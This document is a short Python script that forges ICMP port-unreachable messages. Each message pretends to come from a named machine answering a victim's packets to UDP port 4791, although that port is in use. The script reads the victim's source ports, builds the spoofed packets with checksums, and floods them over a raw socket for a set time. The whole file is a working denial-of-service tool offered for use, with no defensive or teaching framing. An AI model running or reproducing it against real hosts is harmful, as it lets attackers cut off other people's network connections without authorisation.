#!/usr/bin/env python3
"""Says in the name of a machine that it has nobody on UDP port 4791, although it has.

forge_unreachable.py MACHINE VICTIM SECONDS
Reads source ports of the victim's packets from stdin, one a line, and sends it an ICMP port
unreachable for each of them, again and again. Prints how many.
"""
import socket
import struct
import sys
import time

PORT = 4791


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def unreachable(machine, victim, source_port):
    """The answer to a packet of 64 bytes that the victim could have sent."""
    addresses = socket.inet_aton(victim) + socket.inet_aton(machine)
    quoted = struct.pack("!BBHHHBBH", 0x45, 0, 20 + 8 + 64, 0, 0x4000, 64, socket.IPPROTO_UDP, 0)
    quoted += addresses + struct.pack("!HHHH", source_port, PORT, 8 + 64, 0)
    body = struct.pack("!BBHI", 3, 3, 0, 0) + quoted
    return body[:2] + struct.pack("!H", checksum(body)) + body[4:]


def main():
    machine, victim, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
    messages = [unreachable(machine, victim, int(line)) for line in sys.stdin]
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    count = 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for message in messages:
            raw.sendto(message, (victim, 0))
            count += 1
        time.sleep(0.001)  # Some thousands a second: others use this machine, too.
    print(count)


if __name__ == "__main__":
    main()
